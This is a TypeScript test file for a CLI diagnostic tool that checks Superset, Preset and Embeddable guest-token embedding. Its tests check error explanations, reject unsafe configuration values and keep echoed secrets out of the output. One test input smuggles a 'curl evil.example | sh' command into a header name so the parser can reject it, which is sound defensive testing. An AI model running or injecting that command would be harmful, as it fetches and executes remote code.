import { describe, expect, test } from 'vitest'
import type { Check } from '../../../src/cli/doctor/check'
import { embeddableToken } from '../../../src/cli/doctor/embeddable'
import { presetKey, presetMint } from '../../../src/cli/doctor/preset'
import type { Subject } from '../../../src/cli/doctor/subject'
import { login } from '../../../src/cli/doctor/superset/account'
import { chartData } from '../../../src/cli/doctor/superset/charts'
import { guestRole } from '../../../src/cli/doctor/superset/guest-role'
import { mint } from '../../../src/cli/doctor/superset/mint'
import { firstScript, readBootstrap } from '../../../src/cli/doctor/superset/page'
import { echoesOf } from '../../helpers/echoes'
import { answering, minting } from './answering'

const CSRF = '/api/v1/security/csrf_token/'
const ACCOUNT = { username: 'ada', password: 'a-password', provider: 'db' } as const
const LOGGED_IN = { '/api/v1/security/login': [200, { access_token: 'an-access-token' }] as const }

async function foundBy(check: Check, subject: Subject) {
  const [finding] = (await check.run(subject)).findings
  return { ...finding, id: finding?.id, text: JSON.stringify(finding) }
}

describe('the login check', () => {
  test('distinguishes a failed login from a session that did not start', async () => {
    const refused = { '/api/v1/security/login': [401, { message: 'Not authorized' }] as const }
    expect(await foundBy(login, { ...answering(refused), account: ACCOUNT })).toMatchObject({
      id: 'login-refused',
      what: expect.stringMatching(/^The login failed\. .* answered 401: .* Its reason: "Not authorized"\.$/),
    })
    const started = { ...LOGGED_IN, [CSRF]: [422, { msg: 'Subject must be a string' }] as const }
    expect(await foundBy(login, { ...answering(started), account: ACCOUNT })).toMatchObject({
      id: 'session-refused',
      what: expect.stringMatching(
        /^Superset did not start a session\. .* answered 422: PyJWT 2\.10 .*JWT_VERIFY_SUB = False.* Its reason: "Subject must be a string"\.$/,
      ),
      fix: expect.stringContaining('The password is right.'),
    })
  })

  test.each([
    ['Signature verification failed', 'another party signed'],
    ['The specified alg value is not allowed', 'another party signed'],
    ['Token has expired', 'has expired'],
  ])('explains an access token that is refused with "%s"', async (msg, words) => {
    const subject = { ...answering({ [CSRF]: [422, { msg }] }), account: { accessToken: 'a.b.c' } }
    const { id, what, fix } = (await foundBy(login, subject)) as Record<string, string>
    expect(id).toBe('session-refused')
    expect(what).toContain(words)
    expect(what).toContain(`Its reason: "${msg}".`)
    expect(fix).toContain('GUESTPASS_SUPERSET_ACCESS_TOKEN')
  })

  test('names the origin of a redirect', async () => {
    const redirect = async () =>
      new Response(null, { status: 302, headers: { location: 'https://sso.example.com/login?next=x' } })
    const subject = { ...answering({}), fetch: redirect, account: ACCOUNT }
    const { id, what } = (await foundBy(login, subject)) as Record<string, string>
    expect(id).toBe('login-failed')
    expect(what).toContain('a redirect to https://sso.example.com.')
    expect(what).not.toContain('next=')
  })
})

describe('the mint check', () => {
  const redirectTo = (location: string) => () => {
    const response = new Response(null, { status: 302, headers: { location } })
    return Object.defineProperty(response, 'url', {
      value: 'https://bi.example.com/api/v1/security/guest_token/',
    })
  }

  test.each([
    ['https://sso.example.com/login?next=/x', 'mint-redirected', 'https://sso.example.com (302)'],
    ['/login/?next=/x', 'mint-csrf', 'It redirects to https://bi.example.com.'],
    ['', 'mint-csrf', 'Superset did not receive its CSRF token'],
  ])('of a mint that is redirected to "%s" finds %s', async (location, id, words) => {
    const finding = await foundBy(mint, minting(redirectTo(location)))
    expect(finding).toMatchObject({ id, what: expect.stringContaining(words) })
    expect(finding.text).not.toContain('next=')
  })

  test.each([
    [429, 'too-many-requests', 'too many requests'],
    [502, 'gateway-failed', 'gets no answer'],
    [503, 'gateway-failed', 'not available'],
    [504, 'gateway-failed', 'stopped waiting'],
    [403, 'mint-broken', 'another server answers in its place'],
  ])('does not blame the account for a page that answers %d', async (status, id, words) => {
    const finding = await foundBy(
      mint,
      minting(() => new Response('<h1>No</h1>', { status })),
    )
    expect(finding).toMatchObject({ id, what: expect.stringContaining(words) })
    expect(finding.text).not.toContain('can_grant_guest_token')
  })

  test.each([
    [403, { message: 'Forbidden' }, 'cannot-grant-token', 'Forbidden'],
    [400, { message: 'Guest token validation failed' }, 'validator-hook', 'Guest token validation failed'],
    [422, { msg: 'Not enough segments' }, 'mint-broken', 'Not enough segments'],
    [
      400,
      { errors: [{ message: 'The CSRF tokens do not match.' }] },
      'mint-csrf',
      'The CSRF tokens do not match',
    ],
  ])('shows the reason of a %d: %j', async (status, body, id, reason) => {
    expect(
      await foundBy(
        mint,
        minting(() => Response.json(body, { status })),
      ),
    ).toMatchObject({
      id,
      what: expect.stringContaining(` Its reason: "${reason}".`),
    })
  })
})

describe('the chart data check judges by the answer and by the known settings', () => {
  const charts = [{ id: 5, name: 'Revenue', datasetId: 3, formData: {} }]
  const ASYNC = { flags: { GLOBAL_ASYNC_QUERIES: true } }
  const MAY = { roles: { Guest: ['can_read on Chart'] } }
  const MAY_NOT = { roles: { Guest: ['can_read on Dashboard'] } }

  test.each<[string, number, unknown, Partial<Subject>, string]>([
    ['guest-role-chart', 403, {}, MAY_NOT, 'can read on Chart'],
    ['guest-role-chart', 401, {}, MAY_NOT, 'can read on Chart'],
    ['chart-data-failed', 403, { message: 'Forbidden' }, MAY, 'Its reason:'],
    ['chart-data-failed', 401, { msg: 'Missing Authorization Header' }, MAY, 'Missing Authorization Header'],
    ['async-queries', 401, {}, { ...MAY, ...ASYNC }, 'Subject must be a string'],
    ['async-queries', 202, {}, { ...MAY, ...ASYNC }, 'does not wait for the worker'],
    ['chart-payload-refused', 403, { message: 'Guest user cannot modify chart payload' }, MAY_NOT, 'Revenue'],
    ['chart-payload-refused', 403, { message: 'Guest user cannot modify chart payload' }, ASYNC, 'Revenue'],
    ['too-many-requests', 429, {}, MAY, 'too many requests'],
    ['gateway-failed', 504, '<h1>504</h1>', MAY, 'stopped waiting'],
    ['gateway-failed', 502, '<h1>502</h1>', MAY_NOT, 'gets no answer'],
    ['chart-data-failed', 500, { message: 'Database error' }, MAY, 'Database error'],
    ['chart-data-failed', 400, {}, MAY, 'Open the chart in Superset'],
  ])('%s: %d %j', async (id, status, body, known, words) => {
    const guest = async () => new Response(typeof body === 'string' ? body : JSON.stringify(body), { status })
    const saved = { '/api/v1/chart/5': [200, { result: { query_context: '{}' } }] as const }
    const finding = await foundBy(chartData, { ...answering(saved), charts, guest, ...known })
    expect([finding.id, finding.text]).toEqual([id, expect.stringContaining(words)])
  })
})

describe('the guest role check judges by the role', () => {
  const rolesOf = (...permissions: readonly string[]) =>
    [200, { result: { roles: { Guest: permissions.map((one) => one.split(' on ')) } } }] as const

  test.each<[number, readonly string[], Partial<Subject>, string, string]>([
    [403, [], {}, 'guest-role-dashboard', 'can read on Dashboard'],
    [404, ['can_read on Dashboard'], {}, 'guest-role-dashboard', 'a custom security manager'],
    [
      403,
      ['can_read on Dashboard'],
      { version: '6.0.0' },
      'guest-role-dashboard',
      'flask-appbuilder below 5.0.2',
    ],
    [429, ['can_read on Dashboard'], {}, 'too-many-requests', 'too many requests'],
    [504, [], {}, 'gateway-failed', 'stopped waiting'],
  ])('%d, %j, %j', async (status, permissions, known, id, fix) => {
    const answers = { '/api/v1/me/roles/': rolesOf(...permissions), '/api/v1/dashboard/1': status }
    const finding = await foundBy(guestRole, { ...answering(answers), token: 'a.b.c', ...known })
    expect([finding.id, finding.text]).toEqual([id, expect.stringContaining(fix)])
  })
})

test.each([
  [
    '<script src="/static/a.js?x=1&amp;y=2" nonce="n"></script>',
    'https://bi.example.com/static/a.js?x=1&y=2',
  ],
  ["<script>1</script><script defer src='b.js'></script>", 'https://bi.example.com/bi/embedded/b.js'],
  ['<script src="https://cdn.example.com/c.js"></script>', 'https://cdn.example.com/c.js'],
  ['<p>no script</p>', undefined],
])('the first script of %s', (html, address) => {
  expect(firstScript(html, 'https://bi.example.com/bi/embedded/an-id')).toBe(address)
})

describe('the guest role check names the header that Superset is configured with', () => {
  const me = { '/api/v1/me/roles/': [401, { msg: 'Missing Authorization Header' }] as const }

  test.each([
    [undefined, 'Let the header X-GuestToken through'],
    ['X-Embed-Token', 'Let the header X-Embed-Token through'],
    ['X_Embed_Token', 'drop the header X_Embed_Token'],
    ['X_Embed_Token', '\n  GUEST_TOKEN_HEADER_NAME = "X-Embed-Token"'],
  ])('%s: %j', async (guestHeader, fix) => {
    const subject = { ...answering(me), token: 'a.b.c', ...(guestHeader && { guestHeader }) }
    expect(await foundBy(guestRole, subject)).toMatchObject({
      id: 'guest-token-refused',
      what: expect.stringContaining('Its reason: "Missing Authorization Header".'),
      fix: expect.stringContaining(fix),
    })
  })

  test.each([
    ['X-Embed-Token', 'X-Embed-Token'],
    ['X_Embed_Token', 'X_Embed_Token'],
    ['X\n  curl evil.example | sh', undefined],
    ['X\u202e', undefined],
    ['', undefined],
    ['x'.repeat(101), undefined],
    [7, undefined],
  ])('%j of the page is read as %j', (name, read) => {
    const data = JSON.stringify({ common: {}, config: { GUEST_TOKEN_HEADER_NAME: name } })
    const html = `<div data-bootstrap="${data.replaceAll('"', '&#34;')}"></div>`
    expect(readBootstrap(html)?.guestHeader).toBe(read)
  })
})

/** A Preset that accepts the API key, and gives this answer to every other request. */
function afterLogin(answer: () => Promise<Response>): typeof fetch {
  return async (input) =>
    String(input).endsWith('/auth/')
      ? Response.json({ payload: { access_token: CANARIES.accessToken } })
      : answer()
}

test('shows the reasons that Preset and Embeddable give', async () => {
  const answer = (body: unknown, status: number) => async () => Response.json(body, { status })
  const preset = { team: 'a1', workspace: 'b2', name: 'key-name', secret: 'key-secret' }
  const embeddable = { id: 'e1', region: 'us' as const, apiKey: 'api-key' }
  const { errors } = { errors: [{ message: 'Invalid API key' }] }
  expect(
    (await foundBy(presetKey, { ...answering({}), fetch: answer({ errors }, 401), preset })).text,
  ).toContain('Invalid API key')
  const unknown = afterLogin(answer({ errors: [{ message: 'Workspace not found' }] }, 404))
  const accepted = { ...answering({}), preset, isPresetKeyTaken: true } as const
  expect((await foundBy(presetMint, { ...accepted, fetch: unknown })).text).toContain('Workspace not found')
  const forbidden = answer({ errorMessage: 'The API key is not allowed' }, 403)
  expect((await foundBy(embeddableToken, { ...answering({}), fetch: forbidden, embeddable })).text).toContain(
    'The API key is not allowed',
  )
})

/** No part of these is a word of English. */
const CANARIES = {
  password: 'qzxv7kwjpfgh3dq',
  accessToken: 'eyJxqzvw.kjxqwvz9.zkqxjwv0',
  apiKey: 'wqzxjk8vbnqzt',
  rule: 'xqjzwkvbpfq',
}
const PIECES = Object.values(CANARIES).flatMap((canary) =>
  Array.from({ length: canary.length - 3 }, (_, index) => canary.slice(index, index + 4).toLowerCase()),
)

/** A Superset or a Preset that starts a session, and gives this answer to every other request. */
function afterSession(answer: () => Promise<Response>): typeof fetch {
  return async (input, init) =>
    String(input).endsWith(CSRF) ? Response.json({ result: 'x' }) : afterLogin(answer)(input, init)
}

describe('no check shows the request when the server repeats it', () => {
  const { password, accessToken, apiKey, rule } = CANARIES
  const chart = { id: 5, name: 'Revenue', datasetId: 3, formData: {} }

  const CASES: readonly (readonly [string, Check, Partial<Subject>])[] = [
    ['login', login, { account: { ...ACCOUNT, password } }],
    ['login with an access token', login, { account: { accessToken } }],
    ['mint', mint, { rls: [{ number: 1, isBuilt: false, clause: `tenant = '${rule}'` }] }],
    ['guest-role', guestRole, { token: accessToken }],
    ['chart-data', chartData, { charts: [chart], token: accessToken }],
    ['preset-key', presetKey, { preset: { team: 'a', workspace: 'b', name: 'c', secret: password } }],
    [
      'preset-mint',
      presetMint,
      { preset: { team: 'a', workspace: 'b', name: 'c', secret: password }, isPresetKeyTaken: true },
    ],
    ['embeddable-token', embeddableToken, { embeddable: { id: 'e', region: 'us', apiKey } }],
  ]

  test.each(CASES)('%s', async (_name, check, parts) => {
    // The first request of an issuer, or only the mint, is answered so.
    const places = [(answer: () => Promise<Response>) => answer, afterSession]
    const echoes = Object.values(CANARIES).flatMap(echoesOf)
    const attempts = [302, 400, 401, 422, 500].flatMap((status) =>
      echoes.flatMap((echo) => places.map((place) => ({ status, echo, place }))),
    )
    // At the same time, because an issuer waits before it tries again.
    const texts = attempts.map(async ({ status, echo, place }) => {
      const part = encodeURIComponent(echo)
      const location = `https://${part}@sso.example.com/${part}?next=${part}#${part}`
      const body = {
        msg: echo,
        message: { field: [echo] },
        errors: [{ message: echo }],
        errorMessage: echo,
      }
      const answer = async () => Response.json(body, { status, headers: { location } })
      const session = {
        url: 'https://bi.example.com',
        accessToken,
        get: answer,
        getAsNobody: answer,
        post: answer,
        put: answer,
      }
      const subject = { ...answering({}), fetch: place(answer), guest: answer, session, ...parts }
      return { status, echo, text: (await foundBy(check, subject)).text }
    })
    for (const { status, echo, text } of await Promise.all(texts)) {
      const lowered = text.toLowerCase()
      const piece = PIECES.find((each) => lowered.includes(each))
      expect(piece, `${status} ${echo}: ${text}`).toBeUndefined()
    }
  })
})
